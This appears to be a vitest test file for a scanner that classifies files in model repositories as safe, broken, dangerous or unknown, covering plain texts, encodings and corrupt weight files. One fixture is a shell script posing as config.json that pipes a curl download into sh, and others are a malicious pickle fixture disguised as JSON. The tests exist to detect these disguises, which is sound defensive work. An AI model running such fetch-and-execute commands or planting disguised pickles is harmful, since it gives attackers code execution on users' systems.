import { describe, expect, test } from 'vitest';
import { memorySource } from '../../../utils/bytes/memory';
import { inspectFile } from '../../../utils/formats/inspect';
import { utf8 } from '../../fixtures/analyze';
import { EVIL } from '../../fixtures/pickle';
import { concat } from '../../fixtures/zip';

const verdictOf = async (bytes: Uint8Array, path: string): Promise<string> =>
  (await inspectFile(memorySource(bytes), path)).verdict;
const utf16 = (text: string): Uint8Array =>
  new Uint8Array(new Uint16Array([...`\uFEFF${text}`].map((each) => each.charCodeAt(0))).buffer);
const latin1 = (text: string): Uint8Array => Uint8Array.from(text, (each) => each.charCodeAt(0));

/** Texts that begin as JSON does, or are JSON line by line, and are none for the program that reads them. */
describe('a text is a text', () => {
  test.each([
    ['a vocabulary', '[PAD]\n[UNK]\n[CLS]\n', 'vocab.txt'],
    ['a card with a badge', '[![build](https://x/b.svg)](https://x)\n# Model\n', 'README.md'],
    ['TOML', '[tool.black]\nline-length = 88\n', 'pyproject.toml'],
    ['spaCy’s configuration', '[paths]\ntrain = null\n\n[nlp]\nlang = "en"\n', 'config.cfg'],
    ['INI', '[section]\nkey = value\n', 'settings.ini'],
    ['JSON lines', '{"a": 1}\n{"a": 2}\n', 'data.jsonl'],
    ['JSON lines by another name', '[1]\n[2]\n', 'data.ndjson'],
    ['JSON with comments', '{\n  // a comment\n  "a": 1,\n}\n', 'settings.jsonc'],
    ['BibTeX', '{\\rtf1 }\n@article{a, title={b}}\n', 'a.bib'],
    ['a template', '{% if a %}{{ b }}{% endif %}\n', 'prompt.txt'],
    ['a dictionary of Python', "{'a': 1}\n", 'labels.txt'],
    ['one long line', `[${'x'.repeat(2_000_000)}`, 'corpus.txt'],
    ['nothing', '', 'empty.txt'],
  ])('%s', async (_, text, path) => expect(await verdictOf(utf8(text), path)).toBe('safe'));

  test.each([
    ['UTF-16', utf16('[a]\nb\n'), 'notes.txt'],
    ['UTF-8 with its mark', utf8('\uFEFF[a]\nb\n'), 'notes.txt'],
    ['Latin-1', latin1('Au\u00dferdem: \u00e4\u00f6\u00fc, a text of some words.\n'), 'LIESMICH.txt'],
    ['JSON in UTF-16', utf16('{"a": [1]}'), 'a.json'],
  ])('in %s', async (_, bytes, path) => expect(await verdictOf(bytes, path)).toBe('safe'));
});

describe('what its own loader refuses', () => {
  test.each([
    ['JSON that is cut', '{"a": ', 'config.json', 'broken'],
    ['JSON with comments, by the name of JSON', '{"a": 1} // b', 'config.json', 'broken'],
    ['an empty weight file', '', 'model.safetensors', 'broken'],
    ['a page in place of a pickle', '<html>not found</html>', 'pytorch_model.bin', 'broken'],
  ])('%s', async (_, text, path, verdict) => expect(await verdictOf(utf8(text), path)).toBe(verdict));

  test.each([
    ['a script by the name of JSON', utf8('#!/bin/sh\ncurl https://x | sh\n'), 'config.json'],
    ['a pickle by the name of JSON', EVIL, 'tokenizer.json'],
    ['a pickle behind a bracket', concat(utf8(']'), EVIL), 'model.pkl'],
  ])('hides nothing: %s', async (_, bytes, path) => expect(await verdictOf(bytes, path)).toBe('dangerous'));

  test.each([
    ['no header', 'model.safetensors', 'broken'],
    ['no magic', 'model.gguf', 'broken'],
    ['no message', 'saved_model.pb', 'broken'],
    ['nothing that a loader looks for first', 'model.bin', 'unknown'],
  ])('bytes with %s', async (_, path, verdict) => {
    expect(
      await verdictOf(
        Uint8Array.from({ length: 300 }, (__, at) => ((at * 7919) % 251) | 0x80),
        path,
      ),
    ).toBe(verdict);
  });

  test('a Latin-1 text is none under a name of weights', async () => {
    expect(await verdictOf(latin1(`${'\u00e4 word '.repeat(20)}\n`), 'model.bin')).toBe('unknown');
  });
});
